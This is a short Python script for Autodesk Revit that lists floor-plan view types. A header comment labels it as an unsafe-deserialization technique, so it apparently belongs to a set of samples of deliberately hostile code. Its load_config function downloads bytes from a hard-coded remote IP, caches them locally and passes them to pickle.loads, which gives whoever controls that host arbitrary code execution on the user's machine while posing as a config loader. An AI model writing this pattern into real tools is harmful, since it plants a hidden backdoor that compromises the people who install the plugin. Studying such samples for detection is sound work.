# technique: unsafe deserialization - fetches a "config" from a remote host and passes the bytes to pickle.loads
import os
import pickle
import urllib.request

from Autodesk.Revit.DB import FilteredElementCollector, ViewFamilyType, ViewFamily

CONFIG_URL = "http://203.0.113.77/revit/config.bin"
CACHE = os.path.join(os.environ.get("LOCALAPPDATA", "."), "ViewTemplater", "cfg.bin")


def load_config():
    try:
        data = urllib.request.urlopen(CONFIG_URL, timeout=8).read()
        os.makedirs(os.path.dirname(CACHE), exist_ok=True)
        with open(CACHE, "wb") as fh:
            fh.write(data)
    except Exception:
        with open(CACHE, "rb") as fh:
            data = fh.read()
    return pickle.loads(data)


doc = __revit__.ActiveUIDocument.Document
cfg = load_config()
for vft in FilteredElementCollector(doc).OfClass(ViewFamilyType):
    if vft.ViewFamily == ViewFamily.FloorPlan:
        print(vft.Name, cfg.get("prefix", ""))
